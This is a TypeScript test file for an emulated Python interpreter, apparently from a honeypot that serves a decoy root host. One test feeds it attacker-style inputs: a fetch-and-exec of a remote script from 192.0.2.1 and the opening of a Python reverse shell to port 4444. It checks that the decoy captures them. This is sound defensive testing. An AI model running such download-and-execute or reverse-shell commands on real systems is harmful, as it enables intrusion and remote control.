import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { PythonHost } from './modules.ts'
import { runPython } from './run.ts'

const host = (more: Partial<PythonHost> = {}): PythonHost => ({
  version: [3, 11, 2],
  argv: ['-c'],
  user: { name: 'root', uid: 0, gid: 0, home: '/root' },
  cwd: '/root',
  env: new Map([['HOME', '/root']]),
  uname: { system: 'Linux', node: 'mail1', release: '6.1.0', version: '#1', machine: 'x86_64' },
  shell: async (line) => ({ out: `<${line}>\n`, err: '', code: 0 }),
  sleep: async () => {},
  wants: () => {},
  read: (path) => (path === '/etc/hostname' ? 'mail1\n' : undefined),
  write: () => true,
  list: () => undefined,
  stdin: () => '',
  ...more,
})

/** What needs nothing of a machine: a real Python says the same. */
const programs = [
  'print(1+1)',
  'print("a"*3, "b", sep="-", end="!\\n")',
  'print(7//2, -7//2, 7%3, -7%3, 2**100, 7/2, 1e3, 0x1f, 10**-1)',
  'print("A"*5+"b", "%s-%d-%05.2f-%x" % ("x", 5, 3.14159, 255))',
  'import sys; print(sys.version_info[0])',
  'for i in range(3): print(i)',
  'x = 5\nwhile x > 3:\n    print(x)\n    x -= 1\nelse_ = 1',
  'a, b = 1, 2; print(a, b, (a, b), [a, b], {"k": 1}, None, True)',
  'import base64; print(base64.b64decode("aGVsbG8=").decode(), base64.b64encode(b"hi"))',
  'print("".join(chr(ord(c)+1) for c in "HAL"))',
  'print([x*x for x in range(5) if x % 2])',
  'print("a,b,c".split(","), " x ".strip(), "abc"[::-1], "abcdef"[1:4], "abc".upper())',
  'print(b"\\x41\\x42\\xff", bytes([65, 66]), "é".encode(), b"abc".hex())',
  'print(len("abc"), max(1, 5, 3), min([4, 2]), sum([1, 2, 3]), sorted([3, 1, 2]), abs(-3))',
  'print(int("42")+1, int("ff", 16), float("1.5"), str(5)+"x", hex(255), bin(5), round(2.567, 2))',
  'print("yes" if 3 > 2 else "no", 1 < 2 < 3, not True, 1 == 1.0, "a" in "abc", 5 not in [1, 2])',
  'print(repr("a\\nb"), repr("it\'s"), \'a"b\', "tab\\tx")',
  'if 1 > 2:\n  print("a")\nelif 2 > 1:\n  print("b")\nelse:\n  print("c")',
  'exec("print(5)"); print(eval("2+3"))',
  'print(f"{1+1} {\'x\'}"); print("{} {}".format(1, "a"))',
  'd = {"a": 1}\nfor k, v in d.items(): print(k, v)\nprint(d.get("b", 0), d["a"])',
  'import math; print(math.sqrt(16), math.floor(2.7))',
  'print(1/0)',
  'x = 1\ny = 2\nprint(undefined_thing)',
  'import nosuchmodule',
  'int("x")',
  '"a" + 1',
  '[1, 2][5]',
  '{"a": 1}["b"]',
  'open("/nosuch/file").read()',
  'import sys; sys.exit(3)',
  'import sys; sys.exit("gone")',
  'import sys; sys.stdout.write("out\\n"); sys.stderr.write("err\\n")',
  'import os; print(os.path.basename("/a/b"), os.path.join("/a", "b"), os.sep)',
  'print(list(zip([1, 2], "ab")), list(enumerate("x")), list(reversed([1, 2])))',
  'print(3 & 5, 3 | 5, 3 ^ 5, 1 << 4, ~5, -2 ** 2)',
  'print("%s" % None, "100%%" % ())',
  '# nothing\n\nprint("end")  # here',
  'print(("a"\n"b"))',
  'import binascii; print(binascii.unhexlify("6869"), binascii.hexlify(b"hi"))',
]

const real = spawnSync('python3', ['-V'], { encoding: 'utf8' })
const there = real.status === 0
if (!there) console.log('skipped: there is no python3 here')

test.runIf(there)(
  'one-liners come to what a real Python makes of them',
  async () => {
    for (const program of programs) {
      const { stdout, stderr, status } = spawnSync('python3', ['-c', program], { encoding: 'latin1', timeout: 20_000 })
      const ours = await runPython(program, host())
      const last = (text: string): string => text.trimEnd().split('\n').at(-1) ?? ''
      expect([ours?.out, ours?.code, last(ours?.err ?? '')], program).toEqual([stdout, status, last(stderr)])
      // Where in the program it went wrong.
      const line = (text: string): string | undefined => /"<string>", line (\d+), in <module>/.exec(text)?.[1]
      expect(line(ours?.err ?? ''), program).toBe(line(stderr))
    }
  },
  60_000,
)

test('what reaches for the machine gets the decoy: its shell, its files, nobody else', async () => {
  const wanted: string[] = []
  const lab = host({ wants: (url) => wanted.push(url) })
  const out = async (program: string): Promise<string> => (await runPython(program, lab))?.out ?? 'unknown'
  expect(await out('import os; os.system("id")')).toBe('<id>\n')
  expect(await out('import os; print(os.popen("id -u").read())')).toBe('<id -u>\n\n')
  expect(await out('import subprocess; print(subprocess.check_output(["ls", "-l"]))')).toBe("b\"<'ls' '-l'>\\n\"\n")
  expect(await out('import subprocess; print(subprocess.getoutput("w"))')).toBe('<w>\n')
  expect(await out('print(open("/etc/hostname").read().strip())')).toBe('mail1\n')
  expect(await out('import os, socket, platform; print(os.getuid(), socket.gethostname(), platform.machine())')).toBe(
    '0 mail1 x86_64\n',
  )
  const fetched = await runPython(
    'import urllib.request; exec(urllib.request.urlopen("http://192.0.2.1/x.py").read())',
    lab,
  )
  expect(fetched?.err).toContain('urlopen error [Errno 113] No route to host')
  expect(wanted).toEqual(['http://192.0.2.1/x.py'])
  const shell =
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.1",4444))'
  expect((await runPython(shell, lab))?.err).toMatch(/ConnectionRefusedError: \[Errno 111\] Connection refused\n$/)
})

test('what is beyond it is unknown, and nothing goes on without end', async () => {
  for (const program of [
    'class A: pass',
    'lambda: 1',
    'def f(): pass',
    'while True: pass',
    'print("x"',
    '"a" * 10**9',
    '2 ** 10**9',
    'x = []\nx = x.nosuch',
  ])
    expect(await runPython(program, host()), program).toBeUndefined()
  expect(await runPython('('.repeat(5000), host())).toBeUndefined()
  expect(await runPython('-'.repeat(50_000) + '1', host())).toBeUndefined()
  const words =
    'print ( ) [ ] { } " \' : ; , . = == + - * / % ** for in if else while import os x 1 2.5 \n    \t \\ # f"{x}" b"a" not and or'.split(
      ' ',
    )
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.oneof(fc.constantFrom(...words), fc.string({ maxLength: 4 })), { maxLength: 30 }),
      async (parts) => {
        const said = await runPython(parts.join(' '), host())
        expect(said === undefined || typeof said.code === 'number').toBe(true)
      },
    ),
    { numRuns: 500 },
  )
})
